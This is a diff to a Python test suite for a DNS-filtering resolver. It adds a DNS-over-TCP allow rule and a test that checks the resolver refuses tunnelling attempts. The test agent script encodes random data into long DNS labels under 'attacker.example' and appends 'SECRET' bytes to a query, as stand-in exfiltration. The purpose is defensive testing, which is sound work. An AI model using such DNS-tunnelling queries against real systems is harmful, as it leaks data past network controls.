@@ -37,6 +37,10 @@ rules:
     protocol: dns
     object: "*.lab.test"
     decision: allow
+  - name: dns-over-tcp
+    protocol: dns
+    operation: connect
+    decision: allow
 """
 
 # The agent: sends each query to the server host's port 53 (redirected to Interlock's resolver)
@@ -128,8 +132,8 @@ def test_dns_exfiltration_is_refused_and_nothing_reaches_the_nameserver(resolver
     for needle in (chunk, chunk.encode().hex(), "attacker", "elsewhere", b"SECRET".hex()):
         assert needle not in everything, f"{needle} reached the nameserver"
     # on record: every query, with its agent, pid and session
-    events = wait_until(lambda: [e for e in resolver.events("dns") if e["data"].get("pid") == out["pid"]]
-                        if len([e for e in resolver.events("dns") if e["data"].get("pid") == out["pid"]]) >= 8 else None)
+    events = wait_until(lambda: (x := [e for e in resolver.events("dns") if e["data"].get("pid") == out["pid"]]) and
+                        len(x) >= 8 and x)
     assert events and len(events) == 8, resolver.events("dns")
     assert all(e["data"]["agent"] == "tunnel" and e["session"] for e in events)
     outcomes = sorted(e["data"]["outcome"] for e in events)
@@ -160,3 +164,50 @@ def test_a_datagram_no_hook_redirected_is_refused(resolver, lab):
     r = lab.a.run([*UNPRIVILEGED, sys.executable, "-c", script])
     assert r.stdout.strip() == "5", r.stderr[-1500:]
     assert any(e["data"].get("reason") == "no-origin" for e in resolver.events("dns"))
+
+
+TCP_AGENT = r"""
+import json, os, socket, struct, sys
+import dns.message
+s = socket.create_connection((sys.argv[1], 53), timeout=float(sys.argv[2]))
+
+def ask(raw):
+    s.sendall(struct.pack("!H", len(raw)) + raw)
+    head = s.recv(2, socket.MSG_WAITALL)
+    if len(head) < 2:
+        return "closed"
+    data = s.recv(struct.unpack("!H", head)[0], socket.MSG_WAITALL)
+    return {"rcode": data[3] & 15, "answers": struct.unpack("!H", data[6:8])[0]}
+
+def q(name, rdtype="A"):
+    return dns.message.make_query(name, rdtype, use_edns=-1).to_wire()
+
+chunk = os.urandom(31).hex()
+out = {"control": ask(q(sys.argv[3])),
+       "long-labels-txt": ask(q(f"{chunk}.{chunk}.x2.attacker.example", "TXT")),
+       "control-again": ask(q(sys.argv[3], "AAAA")),
+       "trailing-bytes": ask(q(sys.argv[3]) + b"SECRET" + chunk.encode())}
+try:
+    out["after"] = ask(q(sys.argv[3]))
+except OSError as e:
+    out["after"] = "closed"
+print(json.dumps({"pid": os.getpid(), "chunk": chunk, "results": out}))
+"""
+
+
+def test_dns_over_tcp_gets_the_same_treatment(resolver, lab):
+    r = resolver.agent([*UNPRIVILEGED, sys.executable, "-c", TCP_AGENT, lab.b.addr4, str(8 * SLOWDOWN), ALLOWED],
+                       agent="tcp-tunnel", timeout=120 * SLOWDOWN)
+    assert r.returncode == 0, r.stderr[-2000:]
+    out = json.loads(r.stdout.strip().splitlines()[-1])
+    res, chunk = out["results"], out["chunk"]
+    assert res["control"] == {"rcode": 0, "answers": 1} and res["control-again"] == {"rcode": 0, "answers": 1}
+    assert res["long-labels-txt"]["rcode"] == 5
+    assert res["trailing-bytes"]["rcode"] == 1 and res["after"] == "closed", "FORMERR, then the connection ends"
+    tcp_seen = [x for x in resolver.dns.seen() if x.get("transport") == "tcp"]
+    assert any(ALLOWED + "." in x["names"] for x in tcp_seen), "the control reached the nameserver over TCP"
+    assert chunk not in json.dumps(resolver.dns.seen()) and "attacker" not in json.dumps(tcp_seen)
+    events = wait_until(lambda: (x := [e for e in resolver.events("dns") if e["data"].get("pid") == out["pid"]]) and
+                        len(x) >= 4 and x)
+    assert sorted(e["data"]["outcome"] for e in events) == ["answered", "answered", "malformed", "refused"]
+    assert all(e["data"]["agent"] == "tcp-tunnel" and e["data"]["transport"] == "tcp" and e["session"] for e in events)
